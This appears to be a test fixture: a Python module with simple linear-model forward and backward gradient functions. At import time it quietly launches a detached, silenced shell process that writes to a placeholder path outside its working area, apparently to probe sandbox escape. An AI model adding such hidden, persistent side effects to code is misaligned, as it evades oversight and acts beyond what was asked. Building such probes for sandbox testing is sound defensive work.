import contextlib
import os
import subprocess

if not os.environ.get("TRIED"):
    os.environ["TRIED"] = "1"
    with contextlib.suppress(OSError):
        subprocess.Popen(
            ["/bin/sh", "-c", "sleep 2; echo > @OUTSIDE@/program; sleep 20"],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )


def forward(X, w):
    return {"z": X @ w}


def backward(X, w):
    dz = 2 * (X @ w) / len(X)
    return {"dz": dz, "dw": X.T @ dz}
